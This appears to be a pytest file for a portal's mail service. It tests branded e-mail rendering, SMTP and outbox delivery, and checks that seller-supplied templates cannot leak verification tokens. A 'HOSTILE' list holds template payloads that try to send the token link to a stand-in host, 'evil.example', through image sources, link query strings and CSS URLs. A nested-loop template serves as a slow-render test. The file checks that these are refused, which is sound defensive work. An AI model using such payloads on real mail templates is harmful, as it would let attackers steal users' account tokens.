"""Mail is rendered from templates in the seller's brand and delivered to a real SMTP server, or to the .eml
outbox without one. A seller's own templates can restyle every e-mail but never move a token-bearing link."""

from __future__ import annotations

from pathlib import Path

import pytest

from services.branding.brand import Brand
from services.mail.compose import render
from services.mail.overrides import override_problem
from services.mail.transport import deliver
from tests.support.env import SettingsEnv
from tests.support.mailbox import outbox_messages, text_of
from tests.support.servers import free_port, smtp_server

LINK = "http://portal.test/verify?token=the-real-token"
CONTEXT = {"username": "<script>", "hours": 48}


def _html(message) -> str:  # type: ignore[no-untyped-def]
    return message.get_body(preferencelist=("html",)).get_content()


def test_render_has_text_and_html_parts_and_escapes_html() -> None:
    message = render("verify_email", "x@example.com", CONTEXT, links={"link": LINK})
    assert message["Subject"] == "Confirm your e-mail address for Portal"
    html = _html(message)
    assert "&lt;script&gt;" in html and "<script>" not in html
    assert LINK in text_of(message)


def test_a_sellers_mail_comes_in_its_name_with_replies_to_its_support_address(settings_env: SettingsEnv) -> None:
    settings_env.setenv("MAIL_FROM", "Portal <no-reply@portal.example>")
    brand = Brand(organization_id=7, platform_name="Acme Cloud", support_email="support@acme.example")
    message = render("password_changed", "x@example.com", {"username": "x"}, brand)
    assert message["From"] == "Acme Cloud <no-reply@portal.example>"
    assert message["Reply-To"] == "support@acme.example"
    verified = Brand(organization_id=7, platform_name="Acme Cloud", sender_address="hello@acme.example")
    assert (
        render("password_changed", "x@example.com", {"username": "x"}, verified)["From"]
        == "Acme Cloud <hello@acme.example>"
    )


def _override(html: str = "", text: str = "", subject: str = "") -> Brand:
    parts = {k: v for k, v in (("html", html), ("text", text), ("subject", subject)) if v}
    return Brand(organization_id=7, platform_name="Acme", email_templates={"verify_email": parts})


def test_an_override_may_place_the_link_as_a_links_href_or_on_its_own() -> None:
    html = '<p>Hi {{ username }}</p><a href="{{ link }}" style="color:red">Confirm</a> or open {{ link }}'
    text = "Confirm here:\n{{ link }}\n"
    message = render("verify_email", "x@example.com", CONTEXT, _override(html, text), links={"link": LINK})
    assert f'href="{LINK}"' in _html(message) and f"open {LINK}" in _html(message)
    assert f"\n{LINK}\n" in text_of(message)
    assert override_problem(html, "html") is None and override_problem(text, "text") is None


HOSTILE = {
    "html": [
        '<img src="https://evil.example/?t={{ link }}">',
        '<a href="https://evil.example/?t={{ link }}">x</a>',
        '<a href="{{ link|urlencode }}x">x</a>',
        '<a title="{{ link }}" href="https://evil.example/">x</a>',
        "<!-- {{ link }} -->",
        "<style>body{background:url({{ link }})}</style><p>x</p>",
        "https://evil.example/?t={{ link }}",
    ],
    "text": ["Go to https://evil.example/?t={{ link }}", "{{ link }}#evil"],
    "subject": ["Your link {{ link }}"],
}


@pytest.mark.parametrize("part,source", [(p, s) for p, items in HOSTILE.items() for s in items])
def test_an_override_that_would_carry_the_token_elsewhere_is_refused_or_neutralised(part: str, source: str) -> None:
    problem = override_problem(source, part)
    message = render("verify_email", "x@example.com", CONTEXT, _override(**{part: source}), links={"link": LINK})
    everything = str(message)
    assert "evil.example" not in everything and "<!--" not in _html(message) and "<style" not in _html(message)
    if problem:  # refused: the built-in part went out instead, with the link where the portal put it
        assert "the-real-token" in everything
    else:  # the sanitiser removed the only place the link was (a comment, a style element): no token at all
        assert "the-real-token" not in _html(message)


def test_the_token_never_enters_the_sellers_template() -> None:
    # Whatever a template does with the variable, it only ever sees a random marker, never the token.
    message = render(
        "verify_email",
        "x@example.com",
        CONTEXT,
        _override(text="{{ link[10:] }} {{ link|reverse|join }} {{ link }}"),
        links={"link": LINK},
    )
    assert text_of(message).count("the-real-token") == 1


def test_an_override_that_runs_too_long_is_refused_at_save_and_skipped_at_send() -> None:
    slow = "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}"
    assert "stopped" in (override_problem(slow, "text") or "")
    message = render("verify_email", "x@example.com", CONTEXT, _override(text=slow), links={"link": LINK})
    assert LINK in text_of(message)


def test_the_welcome_mail_never_carries_the_instance_password() -> None:
    assert override_problem("{{ admin_password }}", "text")  # not even available to a seller's template
    message = render(
        "welcome",
        "x@example.com",
        {
            "url": "https://x.example",
            "subdomain": "x",
            "admin_email": "x@example.com",
            "dashboard_url": "https://portal.test/dashboard",
        },
    )
    assert "password: shown once on your dashboard" in text_of(message)


def test_without_smtp_mail_goes_to_the_outbox(outbox: Path) -> None:
    deliver(render("password_changed", "x@example.com", {"username": "x"}))
    [message] = outbox_messages(outbox)
    assert message["To"] == "x@example.com" and "changed" in message["Subject"]


def test_with_smtp_url_mail_goes_to_the_smtp_server(settings_env: SettingsEnv, outbox: Path) -> None:
    with smtp_server() as (inbox, port):
        settings_env.setenv("SMTP_URL", f"smtp://127.0.0.1:{port}")
        deliver(render("password_changed", "y@example.com", {"username": "y"}))
        received = inbox.wait_for("y@example.com", "changed", timeout=10)
    assert "password of your account was just changed" in text_of(received)
    assert outbox_messages(outbox) == []


def test_an_unreachable_smtp_server_raises_so_the_job_is_retried(settings_env: SettingsEnv) -> None:
    settings_env.setenv("SMTP_URL", f"smtp://127.0.0.1:{free_port()}?timeout=2")
    with pytest.raises(OSError):
        deliver(render("password_changed", "z@example.com", {"username": "z"}))
